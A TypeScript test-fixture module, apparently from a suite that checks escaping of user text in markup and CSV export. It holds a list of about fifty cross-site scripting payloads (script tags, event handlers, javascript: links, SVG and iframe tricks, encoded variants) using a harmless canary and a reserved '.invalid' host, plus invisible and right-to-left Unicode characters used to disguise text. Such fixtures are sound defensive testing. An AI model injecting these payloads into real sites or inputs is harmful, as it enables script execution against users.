/** Where every string of the corpus that runs would report that it did. */
export const alarm = '__xss';
const run = `window.${alarm}=1`;
/** A host that is nowhere (RFC 2606): a request for it has followed what was injected. */
const away = 'https://xss.invalid';

/**
 * Texts that would run or fetch something wherever a text is taken for markup, an address, a style or a script.
 * After the classes of OWASP's list of filter evasions; none of them holds a tab or a line end, so that they go
 * into a cell, a name and a label without change.
 */
export const scripts: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=${away}/1.js></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type=module>import '${away}/2.js'</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${away}/3.png">`,
  `<img srcset="${away}/4.png 1x">`,
  `"><img src=x onerror="${run}">`,
  `' onmouseover='${run}`,
  `" onfocus="${run}" autofocus="`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe src="javascript:parent.${alarm}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${alarm}=1</script>"></iframe>`,
  `<iframe src="${away}/5"></iframe>`,
  `<object data="${away}/6.swf"></object>`,
  `<embed src="${away}/7.swf">`,
  `<link rel=stylesheet href="${away}/8.css">`,
  `<link rel=preconnect href="${away}">`,
  `<style>@import '${away}/9.css';</style>`,
  `<div style="background:url(${away}/10.png)">x</div>`,
  `<base href="${away}/">`,
  `<meta http-equiv=refresh content="0;url=${away}/11">`,
  `<form action="${away}/12"><button autofocus onfocus="this.form.submit()">x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<body onpageshow=${run}>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `javascript:${run}`,
  `data:text/html,<script>opener.${alarm}=1</script>`,
  `[x](javascript:${run})`,
  `![x](${away}/13.png)`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
];

/** A text with a character that does not show itself, and its mark on the screen. */
export interface Invisible {
  readonly text: string;
  readonly mark: string;
}

export const invisibles: readonly Invisible[] = [
  { text: 'override \u202emoc.live', mark: '[right-to-left override U+202E]' },
  { text: 'isolate \u2067desrever\u2069', mark: '[right-to-left isolate U+2067]' },
  { text: 'embedding \u202bdesrever\u202c', mark: '[right-to-left embedding U+202B]' },
  { text: 'zero\u200bwidth', mark: '[zero width space U+200B]' },
  { text: 'word\u2060joiner', mark: '[word joiner U+2060]' },
  { text: 'soft\u00adhyphen', mark: '[soft hyphen U+00AD]' },
  { text: 'tag\u{e0041}character', mark: '[tag A U+E0041]' },
  { text: 'mark\u200fhere', mark: '[right-to-left mark U+200F]' },
  { text: 'filler\u3164here', mark: '[Hangul filler U+3164]' },
];

/** A field of a CSV file as RFC 4180 quotes it. */
export const csvField = (text: string): string => `"${text.replaceAll('"', '""')}"`;

export const csvOf = (rows: readonly (readonly string[])[]): string =>
  rows.map((row) => `${row.map(csvField).join(',')}\r\n`).join('');
